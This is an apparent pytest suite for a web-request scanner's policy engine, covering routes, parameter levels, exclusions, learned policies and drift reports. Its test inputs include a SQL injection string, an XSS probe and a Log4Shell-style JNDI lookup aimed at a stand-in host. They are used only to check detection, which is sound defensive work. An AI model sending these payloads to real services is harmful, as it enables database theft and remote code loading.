"""The policy: routes, levels, forms of parameters, exclusions, and the commands around it."""
import json
import textwrap

import pytest
import yaml

import traffic
from command import run
from waiting import wait_for
from weir_process import OBSERVATIONS, REPOSITORY

RULES = str(REPOSITORY / 'rules')
SQLI = "1' UNION SELECT password FROM users--"

POLICY = '''
policy:
  defaults: {{url_bytes_max: 300}}
  routes:
    - name: editor
      path: /editor/{{id}}
      parameters:
        - {{name: html, in: [query, form], level: permissive}}
        - {{name: id, in: path, type: integer}}
    - path: /admin/**
      admin_clients: [10.0.0.0/8]
    - name: api
      path: /api/**
      methods: [POST]
      content_types: [application/json]
      csrf: true
  allow:
    - {{clients: [203.0.113.0/24], comment: our scanner}}
  exclusions:
    - {{rules: ["*"], route: api, parameter: query, comment: an SQL console, expires: {expires}}}
    - {{rules: [weir-policy-url-length], clients: [crawler-1], comment: long links}}
'''


@pytest.fixture
def config(tmp_path):
    path = tmp_path / 'weir.yaml'
    path.write_text(POLICY.format(expires='2030-12-31'))
    return path


def record(path, query='', method='GET', ip='198.51.100.7', **more):
    return json.dumps({'ts': '2026-03-01T12:00:00Z', 'request_id': 'r', 'ip': ip, 'method': method, 'path': path,
                       'query': query, 'host': 'shop.example', **more}).encode()


def verdict(config, *arguments, **more):
    result = run('scan', '--rules', RULES, '--config', str(config), '--output', 'verdicts', '-',
                 stdin=record(*arguments, **more) + b'\n')
    assert result.code == 0, result
    one, = result.json_lines()
    return one


def explain(config, *arguments, **more):
    result = run('explain', '--rules', RULES, '--config', str(config), '--record', record(*arguments, **more).decode())
    assert result.code == 0, result
    return result.out


def test_a_parameter_at_permissive_is_not_searched_for_attacks_and_others_are(config):
    assert not verdict(config, '/editor/7', f'html={SQLI}')['malicious']
    assert verdict(config, '/editor/7', f'other={SQLI}')['malicious']
    assert verdict(config, '/shop', f'html={SQLI}')['malicious']


def test_a_violation_stands_beside_rule_hits_in_verdicts_and_alerts(config):
    one = verdict(config, '/editor/seven')
    assert one['rules'] == ['weir-policy-parameter-type'] and one['categories'] == ['other'] and not one['malicious']
    result = run('scan', '--rules', RULES, '--config', str(config), '-', stdin=record('/admin/users') + b'\n')
    alert, = result.json_lines()
    assert 'weir-policy-admin' in json.dumps(alert)
    assert verdict(config, '/admin/users', ip='10.1.2.3')['rules'] == []


@pytest.mark.parametrize('spelling', ['/admin', '//admin/', '/%61dmin', '/x/../admin', '/admin;x=1/users'])
def test_an_admin_route_cannot_be_dodged_by_spelling(config, spelling):
    assert 'weir-policy-admin' in verdict(config, spelling)['rules']


def test_exclusions_hold_until_their_date_by_the_event_time(config):
    body = {'method': 'POST', 'query': f'query={SQLI}', 'content_type': 'application/json'}
    assert not verdict(config, '/api/sql', **body)['malicious']
    config.write_text(POLICY.format(expires='2026-02-28'))
    assert verdict(config, '/api/sql', **body)['malicious']
    config.write_text(POLICY.format(expires='2026-03-01'))
    assert not verdict(config, '/api/sql', **body)['malicious']


def test_an_allowed_client_is_left_alone(config):
    one = verdict(config, '/shop', f'q={SQLI}', ip='203.0.113.9')
    assert (one['malicious'], one['score'], one['rules']) == (False, 0, [])


def test_the_summary_shows_how_often_each_exclusion_was_used_dead_ones_first(config):
    records = [record('/api/sql', f'query={SQLI}', 'POST'), record('/shop', response_headers={'Server': 'x'}, scheme='http')]
    result = run('scan', '--rules', RULES, '--config', str(config), '--output', 'summary', '-',
                 stdin=b'\n'.join(records) + b'\n')
    assert result.code == 0, result
    lines = [line for line in result.out.splitlines() if 'exclusion' in line]
    assert 'never used' in lines[0]
    assert 'an SQL console' in lines[-1] and 'never' not in lines[-1]
    assert 'Server revealed' in result.out


def test_explain_shows_route_level_violations_and_why_something_was_excluded(config):
    shown = explain(config, '/editor/seven', f'html={SQLI}')
    assert 'editor' in shown and 'permissive' in shown and 'no whole number' in shown
    shown = explain(config, '/api/sql', f'query={SQLI}', 'POST', content_type='text/plain')
    assert 'an SQL console' in shown and 'weir-policy-content-type' in shown
    assert 'the default route' in explain(config, '/shop')


def test_without_a_policy_and_with_an_empty_one_verdicts_are_the_same(tmp_path):
    records, _ = traffic.with_attacks(300)
    config = tmp_path / 'weir.yaml'
    config.write_text('policy: {}\n')
    outputs = [run('scan', '--rules', RULES, *options, '--output', 'verdicts', '-',
                   stdin=b''.join(line + b'\n' for line in records)).out
               for options in ((), ('--config', str(config)))]
    assert outputs[0] == outputs[1]


def test_all_errors_of_a_policy_are_reported_with_their_lines(tmp_path):
    path = tmp_path / 'policy.yaml'
    path.write_text('routes:\n  - {path: /a, levl: strict}\n  - {path: a}\nexclusions:\n  - {rules: x}\n')
    result = run('policy', 'check', str(path))
    assert result.code == 2
    for part in (':2:', "did you mean 'level'?", ':5:', 'a comment is missing'):
        assert part in result.err, result.err
    path.write_text('routes:\n  - {path: a}\n')
    assert run('policy', 'check', str(path)).code == 2
    path.write_text('routes:\n  - {path: /a}\n')
    assert run('policy', 'check', str(path)).code == 0


def test_an_exclusion_that_no_longer_holds_is_told(tmp_path):
    path = tmp_path / 'weir.yaml'
    path.write_text(POLICY.format(expires='2020-01-31'))
    for command in (('policy', 'check'), ('config', 'check')):
        result = run(*command, str(path))
        assert result.code == 0 and f'{path}:20:7: warning: this exclusion no longer holds: its last day was 2020-01-31 (an SQL console)' in \
            result.err, result


def test_policy_routes_says_which_route_a_request_takes(config):
    assert '/editor/{id}' in run('policy', 'routes', str(config), 'GET', 'https://shop.example/editor/7?x=1').out
    assert 'the default route' in run('policy', 'routes', str(config), 'GET', '/api/x').out
    assert len(run('policy', 'routes', str(config)).out.splitlines()) == 3


def test_an_imported_openapi_document_is_a_policy(tmp_path):
    document = tmp_path / 'openapi.json'
    document.write_text(json.dumps({
        'openapi': '3.0.3', 'servers': [{'url': 'https://api.example.com/v2'}],
        'paths': {'/users/{id}': {'get': {
            'operationId': 'user', 'parameters': [
                {'name': 'id', 'in': 'path', 'required': True, 'schema': {'type': 'string', 'format': 'uuid'}}]}}}}))
    imported = run('policy', 'import', str(document))
    assert imported.code == 0, imported
    (tmp_path / 'api.yaml').write_text(imported.out)
    assert run('policy', 'check', str(tmp_path / 'api.yaml')).code == 0
    config = tmp_path / 'weir.yaml'
    config.write_text('policy: {files: api.yaml}\n')
    assert verdict(config, '/v2/users/5df41881-3aed-3515-88a7-2f4a814cf09e')['rules'] == []
    assert verdict(config, '/v2/users/7')['rules'] == ['weir-policy-parameter-type']
    assert verdict(config, '/v2/users/5df41881-3aed-3515-88a7-2f4a814cf09e', '', 'DELETE')['rules'] == ['weir-policy-method']


# --- in the daemon

def alerts_of(config, *records):
    result = run('scan', '--rules', RULES, '--config', str(config), '--output', 'alerts', '-', stdin=b'\n'.join(records) + b'\n')
    assert result.code == 0, result
    return result.out


def exclude(*arguments, alerts='', code=0):
    result = run('policy', 'exclude', *arguments, stdin=alerts.encode())
    assert result.code == code, result
    return result


def with_policy_file(tmp_path, config, text):
    """The configuration with one more policy file."""
    (tmp_path / 'exclusions.yaml').write_text(text)
    path = tmp_path / 'with_exclusions.yaml'
    written = config.read_text()
    path.write_text(written.replace('policy:', 'policy:\n  files: [exclusions.yaml]', 1) if 'policy:' in written
                    else written + 'policy: {files: [exclusions.yaml]}\n')
    return path


def test_an_exclusion_made_of_an_alert_ends_this_false_alarm_and_nothing_else(config, tmp_path):
    alarm = record('/console/4711', f'q={SQLI}')
    made = exclude('--from-alert', '-', '-c', str(config), '--comment', 'an SQL console', '--days', '30',
                   alerts=alerts_of(config, alarm))
    assert 'new routes; they end after' in made.err
    mended = with_policy_file(tmp_path, config, made.out)
    assert verdict(config, '/console/4711', f'q={SQLI}')['malicious']
    assert not verdict(mended, '/console/4711', f'q={SQLI}')['malicious']
    assert not verdict(mended, '/console/99', f'q={SQLI}')['malicious'], 'ids are folded'
    assert verdict(mended, '/console/4711', f'r={SQLI}')['malicious'], 'another parameter'
    assert verdict(mended, '/other/4711', f'q={SQLI}')['malicious'], 'another route'
    assert verdict(mended, '/console/4711', f'q={SQLI}', method='POST')['malicious'], 'another method'
    assert verdict(mended, '/console/4711', 'q=<script>alert(1)</script>')['malicious'], 'another rule'


def test_an_exclusion_names_the_route_that_the_policy_has_and_may_hold_for_one_client_and_rule_only(config, tmp_path):
    alerts = alerts_of(config, record('/admin/a', f'q={SQLI}', ip='10.1.2.3'))
    hits = json.loads(alerts.splitlines()[0])['evidences'][0]['data']['hits']
    made = exclude('--from-alert', '-', '-c', str(config), '--client', alerts=alerts)
    assert 'route: "/admin/**"' in made.out and 'clients: ["10.1.2.3"]' in made.out, made
    assert 'routes: []' in made.out
    mended = with_policy_file(tmp_path, config, made.out)
    assert not verdict(mended, '/admin/a', f'q={SQLI}', ip='10.1.2.3')['malicious']
    assert verdict(mended, '/admin/a', f'q={SQLI}', ip='10.1.2.4')['malicious'], 'another client'
    one_rule = exclude('--from-alert', '-', '-c', str(config), '--rule', hits[0]['rule_id'], alerts=alerts)
    assert hits[0]['rule_id'] in one_rule.out
    assert all(hit['rule_id'] not in one_rule.out for hit in hits[1:])


def test_an_exclusion_reaches_places_that_are_no_parameters_and_needs_no_policy_before(tmp_path):
    bare = tmp_path / 'bare.yaml'
    bare.write_text('rules: {security_level: standard}\n')
    agent = {'user_agent': '${jndi:ldap://probe.example/a}'}
    made = exclude('--from-alert', '-', alerts=alerts_of(bare, record('/', **agent)))
    assert 'in: [user_agent]' in made.out and 'default limits' in made.err, made
    mended = with_policy_file(tmp_path, bare, made.out)
    assert verdict(bare, '/', **agent)['malicious']
    assert not verdict(mended, '/', **agent)['malicious']
    assert verdict(mended, '/', 'q=${jndi:ldap://probe.example/a}')['malicious'], 'another place'


def test_what_cannot_be_excluded_is_told(config, tmp_path):
    refused_logins = [record('/login', ip='192.0.2.77', method='POST', status=401) for _ in range(80)]
    alerts = alerts_of(config, *refused_logins)
    assert '"burst"' in alerts
    bursts = '\n'.join(line for line in alerts.splitlines() if '"kind":"burst"' in line)
    assert 'is of kind burst' in exclude('--from-alert', '-', alerts=bursts, code=1).err
    attack = alerts_of(config, record('/x', f'q={SQLI}'))
    assert 'no hits of these rules' in exclude('--from-alert', '-', '--rule', 'none', alerts=attack, code=1).err
    assert 'no alert whose id begins with zz' in exclude('--from-alert', '-', '--alert', 'zz', alerts=attack, code=1).err
    assert 'no alerts of weir' in exclude('--from-alert', '-', alerts='{"a": 1}\n', code=1).err
    assert '--alert ID' in exclude(code=2).err


def shop(first, count):
    """What a shop is asked for, with an attack now and then."""
    lines = []
    for i in range(first, first + count):
        kind = i % 5
        if i % 50 == 7:
            lines.append(record(f'/items/{i}', f'page=1&sort={SQLI}'))
        elif kind < 2:
            lines.append(record(f'/items/{i}', f'page={i % 17}&sort={"name" if i % 3 else "price"}', status=200))
        elif kind == 2:
            lines.append(record('/search', f'q=lamp+{i % 97}', status=200))
        elif kind == 3:
            lines.append(record('/login', method='POST', status=302, content_type='application/x-www-form-urlencoded',
                                body=f'email=kim{i}%40shop.example&password=pw{i}'))
        else:
            lines.append(record('/api/orders', method='POST', status=201, content_type='application/json',
                                body=json.dumps({'sku': f'A-{i % 50}', 'qty': i % 9, 'gift': i % 2 == 0})))
    return b'\n'.join(lines) + b'\n'


def test_a_learned_policy_takes_the_next_traffic_and_reports_what_is_new(tmp_path):
    learn = ('policy', 'learn', '--rules', RULES, '-')
    learned = run(*learn, stdin=shop(0, 10_000))
    assert learned.code == 0 and 'routes learned from' in learned.err, learned
    assert run(*learn, stdin=shop(0, 10_000)).out == learned.out, 'the same requests give the same policy'
    routes = {route['name']: route for route in yaml.safe_load(learned.out)['routes']}
    item = routes['GET shop.example/items/{id}']
    assert {p['name']: p.get('type') for p in item['parameters']} == {'id': 'integer', 'page': 'integer', 'sort': 'enum'}
    orders = routes['POST shop.example/api/orders']
    assert orders['content_types'] == ['application/json']
    assert {p['name']: p['type'] for p in orders['parameters']} == {'gift': 'boolean', 'qty': 'integer', 'sku': 'string'}
    bare = tmp_path / 'bare.yaml'
    bare.write_text('rules: {security_level: standard}\n')
    config = with_policy_file(tmp_path, bare, learned.out)
    judged = run('scan', '--rules', RULES, '--config', str(config), '--output', 'verdicts', '-', stdin=shop(10_000, 4_000)).json_lines()
    strange = [v for v in judged if not v['malicious'] and v['rules']]
    assert len(judged) == 4_000 and not strange, strange[:5]
    for path, query, more in (('/items/x7', 'page=1&sort=name', {}), ('/items/7', 'page=one&sort=name', {}), ('/items/7', 'page=1&sort=size', {}),
                              ('/items/7', 'page=1&sort=name&debug=1', {}), ('/items/7', '', {'method': 'DELETE'})):
        rules = verdict(config, path, query, **more)['rules']
        assert any(rule.startswith('weir-policy-') for rule in rules), (path, query, more, rules)


def test_drift_is_what_ordinary_requests_hold_against_the_policy(tmp_path):
    learned = run('policy', 'learn', '--rules', RULES, '-', stdin=shop(0, 10_000))
    bare = tmp_path / 'bare.yaml'
    bare.write_text('rules: {security_level: standard}\n')
    config = with_policy_file(tmp_path, bare, learned.out)
    drift = ('policy', 'drift', '--rules', RULES, '--config', str(config))
    same = run(*drift, '--fail', '-', stdin=shop(10_000, 5_000))
    assert same.code == 0 and '0 drifts in 4,900 requests; 100 malicious' in same.out, same

    new = [record(f'/v2/items/{i}', 'page=1', status=200) for i in range(40)]
    new += [record(f'/items/{i}', 'page=1&sort=name&colour=red', status=200, ip=f'192.0.2.{i}') for i in range(30)]
    new += [record(f'/items/{i}', f'page=1&sort=name&colour={SQLI}', status=200) for i in range(30)]
    lines = b'\n'.join(line for line in shop(10_000, 5_000).splitlines() if b'/search' not in line) + b'\n' + b'\n'.join(new) + b'\n'
    found = json.loads(run(*drift, '--json', '-', stdin=lines).out)
    drifts = {(one['kind'], one['route'], one['what']): one['requests'] for one in found['drifts']}
    item = 'GET shop.example/items/{id}'
    assert drifts.pop(('new_route', 'GET shop.example/v2/items/{id}', '')) == 40
    assert drifts.pop(('new_parameter', item, 'colour (query)')) == 30
    assert drifts.pop(('violation', item, 'parameter_unknown of colour (query)')) == 30
    assert {kind for kind, *_ in drifts} == {'unused_route'} and all('/search' in route for _, route, _ in drifts), drifts

    assert run(*drift, '--fail', '-', stdin=lines).code == 1
    proposed = run(*drift, '--propose', '-', stdin=lines)
    assert [route['path'] for route in yaml.safe_load(proposed.out)['routes']] == ['/v2/items/{id}']
    refused = run('policy', 'drift', '--rules', RULES, '-', stdin=lines)
    assert refused.code == 2 and 'no policy to compare with' in refused.err


def test_nothing_is_learned_from_nothing(tmp_path):
    learn = ('policy', 'learn', '--rules', RULES, '-')
    few = run(*learn, stdin=shop(0, 8))
    assert few.code == 1 and 'no route had 20 requests' in few.err
    refused = run(*learn, stdin=b'\n'.join(record('/none', status=404) for _ in range(100)) + b'\n')
    assert refused.code == 1 and 'nothing to learn' in refused.err


def published(pipeline):
    """(client, rule, category) of each hit in an alert."""
    return {(alert['unmapped']['weir']['client'], hit['rule_id'], hit['category'])
            for alert in (one['alert'] for one in pipeline.alerts() if one['alert']['unmapped']['weir']['kind'] == 'attack')
            for evidence in alert['evidences'] for hit in evidence.get('data', {}).get('hits', ())}


def test_violations_of_routes_and_parameters_are_published_and_a_reload_keeps_the_counts_of_exclusions(pipeline):
    attack = {'client_id': 'scanner-1', 'query': 'q=1%27%20UNION%20SELECT%20password%20FROM%20users--'}
    weir = pipeline.weir(policy={'files': ['policy.yaml']})
    policy = weir.folder / 'policy.yaml'
    text = textwrap.dedent(POLICY.split('policy:\n', 1)[1].format(expires='2030-12-31'))
    policy.write_text('weights: {url_length: 10, parameter_type: 10, content_type: 10}\n' + text.replace('203.0.113.0/24', 'scanner-1'))
    weir.start()
    pipeline.broker.produce(pipeline.requests, [
        record('/search', client_id='long-1', query='a=' + 'b' * 300),
        record('/editor/seven', client_id='form-1'),
        record('/admin/users', client_id='admin-1'),
        record('/api/orders', client_id='content-1', method='POST', content_type='text/plain'),
        record('/search', **attack)])
    expected = {('long-1', 'weir-policy-url-length', 'other'), ('form-1', 'weir-policy-parameter-type', 'other'),
                ('admin-1', 'weir-policy-admin', 'other'), ('content-1', 'weir-policy-content-type', 'other')}
    wait_for(lambda: published(pipeline) >= expected, 30,
             lambda: f'an alert for each violation; now {published(pipeline)}', 0.3)
    weir.wait_for_metric(OBSERVATIONS, 5)
    assert not [hit for hit in published(pipeline) if hit[0] == 'scanner-1']

    def uses():
        exclusions = json.loads(weir.get('/-/status')[2])['policy']['exclusions']
        return {one['comment']: one['uses'] for one in exclusions}
    assert uses()['our scanner'] > 0 and uses()['long links'] == 0
    before = uses()
    policy.write_text(policy.read_text().replace('expires: 2030-12-31', 'expires: 2031-12-31'))
    weir.reload()
    weir.wait_for_metric('weir_rule_reloads_total', 1, result='success')
    assert uses() == before
    pipeline.broker.produce(pipeline.requests, [record('/search', **attack)])
    # A record that had to wait for other partitions is judged twice, so the counts of two records may differ.
    wait_for(lambda: uses()['our scanner'] > before['our scanner'], 30, 'the count to go on', 1)
